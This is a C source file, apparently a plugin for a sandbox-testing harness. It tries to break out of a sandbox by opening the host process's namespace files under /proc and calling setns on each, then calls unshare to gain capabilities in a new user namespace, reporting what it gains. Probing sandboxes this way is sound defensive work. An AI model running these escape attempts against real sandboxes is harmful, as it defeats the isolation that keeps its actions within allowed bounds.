/*
 * proc_unshare_setns — creates new user and mount namespaces with unshare
 * (inside a new user namespace a process holds every capability), then tries to
 * enter the host's mount and network namespaces with setns. Namespaces are the
 * kernel's biggest attack surface for unprivileged users, and setns into the
 * host's namespaces undoes the sandbox's own.
 */
#include "attack.h"

#include <sched.h>

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static const char *const kinds[] = {"mnt", "net", "pid", "user"};
    long host = atk_param_long(in, "host_pid", -1);
    char path[64];
    int done = 0;
    /* First the host's namespaces, with whatever the runner still holds. */
    for (size_t i = 0; host > 0 && i < sizeof kinds / sizeof kinds[0]; i++) {
        snprintf(path, sizeof path, "/proc/%ld/ns/%s", host, kinds[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            atk_failed(out, path, errno);
            continue;
        }
        if (setns(fd, 0) == 0) {
            atk_gained(out, "entered the host's %s namespace", kinds[i]);
            done = 1;
        } else {
            atk_failed(out, "setns", errno);
        }
        close(fd);
    }
    /* Then a namespace of its own (after setns: a new user namespace would drop
     * every capability over the host's namespaces). */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
        atk_gained(out, "unshare(CLONE_NEWUSER | CLONE_NEWNS)");
        done = 1;
    } else {
        atk_failed(out, "unshare user+mnt", errno);
        if (unshare(CLONE_NEWNS) == 0) {
            atk_gained(out, "unshare(CLONE_NEWNS)");
            done = 1;
        } else {
            atk_failed(out, "unshare mnt", errno);
        }
    }
    return done ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
